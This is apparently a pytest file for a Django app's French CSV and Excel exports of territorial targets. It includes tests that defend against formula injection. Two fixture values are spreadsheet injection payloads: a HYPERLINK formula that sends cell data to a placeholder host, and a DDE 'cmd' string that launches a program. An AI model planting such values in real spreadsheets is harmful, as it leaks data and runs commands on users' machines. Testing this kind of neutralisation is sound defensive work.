"""The export of the targets: scoped to the territory, readable by a French Excel."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from perfml.web.dialogue.workflow import TargetEntry, campaign_of, set_targets

pytestmark = pytest.mark.django_db


def csv_rows(client) -> list[list[str]]:
    content = client.get("/dialogue/cibles.csv").content.decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def test_csv_has_ten_rows_per_ml_of_the_territory(client, users):
    client.force_login(users["DREETS_UD"])
    codes = [row[1] for row in csv_rows(client)[1:]]
    assert codes == ["35001"] * 10 + ["35002"] * 10


def test_csv_writes_decimals_with_a_comma(client, users, figures):
    set_targets(
        users["DREETS_UR"],
        campaign_of("35001", 2025),
        [TargetEntry(1, 21.25, "raisonnable")],
        figures,
    )
    client.force_login(users["ML"])
    header, first = csv_rows(client)[:2]
    row = dict(zip(header, first, strict=True))
    assert (row["Cible"], row["Origine de la cible"], row["Proposition légitime"]) == (
        "21,25",
        "raisonnable",
        "22,5",
    )


def test_xlsx_has_french_headers_and_numbers(client, users):
    client.force_login(users["ML"])
    book = openpyxl.load_workbook(io.BytesIO(client.get("/dialogue/cibles.xlsx").content))
    sheet = book["Cibles"]
    assert sheet["B1"].value == "Code ML"
    assert sheet["J2"].value == 20.0  # 35001's 2024 value of indicator 1


POISON_NAME = '=HYPERLINK("http://exemple.invalid/?"&A2,"Voir")'
POISON_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def poisoned(users, figures, monkeypatch):
    """35001 named like a formula, with a target whose justification is one too."""
    import dataclasses

    from perfml.web.figures.store import current_snapshot

    mls = current_snapshot().mls
    monkeypatch.setitem(mls, "35001", dataclasses.replace(mls["35001"], nom=POISON_NAME))
    set_targets(
        users["DREETS_UR"],
        campaign_of("35001", 2025),
        [TargetEntry(1, 99.0, "saisie", POISON_REASON)],
        figures,
    )


def test_csv_neutralises_poisoned_names_and_justifications(client, users, poisoned):
    client.force_login(users["ML"])
    header, *rows = csv_rows(client)
    named = [dict(zip(header, row, strict=True)) for row in rows]
    assert {r["Mission locale"] for r in named} == {"'" + POISON_NAME}
    assert "'" + POISON_REASON in {r["Justification"] for r in named}


def test_xlsx_writes_poisoned_text_as_text_never_as_a_formula(client, users, poisoned):
    client.force_login(users["ML"])
    book = openpyxl.load_workbook(io.BytesIO(client.get("/dialogue/cibles.xlsx").content))
    cells = [cell for row in book["Cibles"].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {POISON_NAME, POISON_REASON} <= texts
